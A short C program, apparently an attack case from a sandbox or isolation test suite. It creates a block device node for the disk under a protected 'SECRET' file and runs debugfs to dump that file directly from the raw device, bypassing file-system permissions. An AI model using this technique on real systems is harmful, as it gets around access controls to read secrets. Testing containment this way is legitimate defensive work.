// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/*
 * Reads the secret from the disk below the file system.
 */
#include "attack.h"
#include <sys/sysmacros.h>

/* The device that the file stands on, as a node of our own making. */
static void make_device(void)
{
	struct stat status;

	need(stat(SECRET, &status), SECRET);
	need(mknod(OUT "/disk", S_IFBLK | 0600, status.st_dev), "mknod");
}

int main(void)
{
	char *argv[] = { (char *)"/sbin/debugfs", (char *)"-R", (char *)"dump " SECRET " " OUT "/copy",
			 (char *)OUT "/disk", NULL };

	make_device();
	need(run(argv) == 127 ? -1 : 0, "debugfs");
	steal(OUT "/copy");
}
